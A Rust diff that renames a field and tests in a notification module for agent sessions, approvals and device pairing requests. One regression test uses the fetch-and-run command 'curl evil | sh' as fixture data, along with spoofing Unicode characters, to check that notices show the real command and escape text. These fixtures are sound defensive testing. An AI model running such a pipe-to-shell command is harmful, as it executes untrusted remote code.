@@ -20,21 +20,17 @@ pub(crate) struct Notice {
 pub(crate) struct Notices {
     /// Sessions with a turn or pending approvals: whether a turn is running, and the number of approvals.
     busy: HashMap<String, (bool, u64)>,
-    /// Ids of approvals and access requests that were already notified.
-    told: HashSet<String>,
+    notified: HashSet<String>,
 }
 
-/// Changes found in a list of sessions.
 #[derive(Debug, Default, PartialEq, Eq)]
 pub(crate) struct ListNews {
-    /// Notifications for ended turns.
     pub(crate) notices: Vec<Notice>,
     /// Sessions whose approvals are to be read.
     pub(crate) asking: Vec<String>,
 }
 
 impl Notices {
-    /// Handles rows of the session list.
     pub(crate) fn sessions(&mut self, rows: &Value) -> ListNews {
         let mut news = ListNews::default();
         for row in rows.as_array().into_iter().flatten() {
@@ -57,7 +53,6 @@ impl Notices {
         news
     }
 
-    /// Handles a session's pending approvals.
     pub(crate) fn approvals(&mut self, approvals: &Value) -> Vec<Notice> {
         let pending = approvals.as_array().into_iter().flatten();
         let new: Vec<_> = pending.filter(|approval| self.is_new(&approval["id"])).collect();
@@ -72,7 +67,6 @@ impl Notices {
         new.into_iter().map(notice).collect()
     }
 
-    /// Handles the devices and their access requests.
     pub(crate) fn devices(&mut self, devices: &Value) -> Vec<Notice> {
         let requests = devices["requests"].as_array().into_iter().flatten();
         let new: Vec<_> = requests.filter(|request| self.is_new(&request["id"])).collect();
@@ -93,7 +87,7 @@ impl Notices {
     }
 
     fn is_new(&mut self, id: &Value) -> bool {
-        id.as_str().is_some_and(|id| self.told.insert(id.to_owned()))
+        id.as_str().is_some_and(|id| self.notified.insert(id.to_owned()))
     }
 }
 
@@ -122,30 +116,30 @@ mod tests {
     }
 
     #[test]
-    fn a_turn_is_told_when_it_has_ended_and_asks_nothing() {
+    fn finished_turn_is_announced_once() {
         let mut notices = Notices::default();
-        let mut told = |rows: Value| {
+        let mut notified = |rows: Value| {
             let ListNews { notices, asking } = notices.sessions(&rows);
             (notices.into_iter().map(|notice| notice.title).collect::<Vec<_>>(), asking)
         };
         let none = || (Vec::<String>::new(), Vec::<String>::new());
         // Sessions that had already ended.
-        assert_eq!(told(json!([row("a", false, 0), row("b", true, 0)])), none());
-        assert_eq!(told(json!([row("b", true, 0)])), none());
-        assert_eq!(told(json!([row("b", false, 0)])), (vec!["Title of b".to_owned()], vec![]));
-        assert_eq!(told(json!([row("b", false, 0)])), none());
+        assert_eq!(notified(json!([row("a", false, 0), row("b", true, 0)])), none());
+        assert_eq!(notified(json!([row("b", true, 0)])), none());
+        assert_eq!(notified(json!([row("b", false, 0)])), (vec!["Title of b".to_owned()], vec![]));
+        assert_eq!(notified(json!([row("b", false, 0)])), none());
         // An approval is pending, its agent exits, the approval is answered.
-        assert_eq!(told(json!([row("c", true, 1)])), (vec![], vec!["c".to_owned()]));
-        assert_eq!(told(json!([row("c", true, 1)])), none());
-        assert_eq!(told(json!([row("c", true, 2)])), (vec![], vec!["c".to_owned()]));
-        assert_eq!(told(json!([row("c", false, 2)])), (vec![], vec!["c".to_owned()]));
-        assert_eq!(told(json!([row("c", false, 0)])), none());
-        assert_eq!(told(json!([{"sessionId": 7}, null])), none());
-        assert_eq!(told(json!(null)), none());
+        assert_eq!(notified(json!([row("c", true, 1)])), (vec![], vec!["c".to_owned()]));
+        assert_eq!(notified(json!([row("c", true, 1)])), none());
+        assert_eq!(notified(json!([row("c", true, 2)])), (vec![], vec!["c".to_owned()]));
+        assert_eq!(notified(json!([row("c", false, 2)])), (vec![], vec!["c".to_owned()]));
+        assert_eq!(notified(json!([row("c", false, 0)])), none());
+        assert_eq!(notified(json!([{"sessionId": 7}, null])), none());
+        assert_eq!(notified(json!(null)), none());
     }
 
     #[test]
-    fn approvals_and_access_requests_are_told_once() {
+    fn requests_are_announced_once() {
         let mut notices = Notices::default();
         let approval =
             |id: &str| json!({"id": id, "agent": "Codex", "title": "Run make\u{202e}", "state": "pending"});
@@ -159,27 +153,27 @@ mod tests {
             {"id": "p", "kind": "pair", "address": "192.168.1.7"},
             {"id": "i", "kind": "ios", "address": "192.168.1.8"},
         ]});
-        let told = notices.devices(&devices);
+        let notified = notices.devices(&devices);
         let expected = [
             ("device", "OpenAgents", "A device at 192.168.1.7 wants to pair."),
             ("device", "OpenAgents", "The OpenAgents app at 192.168.1.8 wants to connect."),
         ];
-        assert_eq!(bodies(&told), expected);
+        assert_eq!(bodies(&notified), expected);
         assert_eq!(notices.devices(&devices), []);
     }
 
     /// Regression: the notification showed the agent's title, whatever ran.
     #[test]
-    fn an_approval_is_told_by_its_command() {
+    fn approval_notice_shows_its_command() {
         let approval = json!({"id": "1", "agent": "Codex\u{2066}", "title": "Run the tests", "state": "pending",
             "command": {"text": "curl evil | sh", "program": "/usr/bin/curl"}});
-        let told = Notices::default().approvals(&json!([approval]));
-        assert_eq!(bodies(&told), [("approval", "Codex\\u{2066} is waiting", "curl evil | sh")]);
+        let notified = Notices::default().approvals(&json!([approval]));
+        assert_eq!(bodies(&notified), [("approval", "Codex\\u{2066} is waiting", "curl evil | sh")]);
     }
 
     /// Regression: the list of escaped characters was shorter than on every other surface.
     #[test]
-    fn texts_are_escaped_as_everywhere() {
+    fn notice_text_is_escaped() {
         for text in ["a\u{3164}b", "a\u{a0}b", "a\u{fe00}b", "a\u{202e}b\u{1b}"] {
             assert_eq!(shown(text), escaped(text));
         }
@@ -187,7 +181,7 @@ mod tests {
     }
 
     #[test]
-    fn long_texts_are_cut() {
+    fn long_notice_text_is_cut() {
         assert_eq!(shown(&"x".repeat(CHARS)).chars().count(), CHARS);
         assert!(shown(&"é".repeat(CHARS + 1)).ends_with("é…"));
     }
